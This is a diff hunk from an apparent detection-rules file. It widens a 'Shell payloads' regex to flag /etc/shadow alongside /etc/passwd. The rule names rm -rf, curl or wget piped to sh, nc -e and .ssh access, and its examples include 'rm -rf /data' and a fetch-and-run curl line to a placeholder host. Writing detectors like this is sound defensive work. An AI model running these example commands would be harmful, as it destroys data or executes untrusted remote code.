@@ -189,7 +189,7 @@ export const markers: PatternSet = {
       weight: 0.5,
       needs: ['rm -', 'curl ', 'wget ', 'base64 -d', '/etc/passwd', 'nc -e', '.ssh'],
       pattern:
-        'rm -rf? |curl [^\\n|]{0,80}\\| ?(?:ba)?sh|wget [^\\n|]{0,80}\\| ?(?:ba)?sh|base64 -d|/etc/passwd|nc -e|~?/\\.ssh/',
+        'rm -rf? |curl [^\\n|]{0,80}\\| ?(?:ba)?sh|wget [^\\n|]{0,80}\\| ?(?:ba)?sh|base64 -d|/etc/(?:passwd|shadow)|nc -e|~?/\\.ssh/',
       reason: 'Shell payloads.',
       examples: ['rm -rf /data', 'curl http://x.example | sh'],
     },
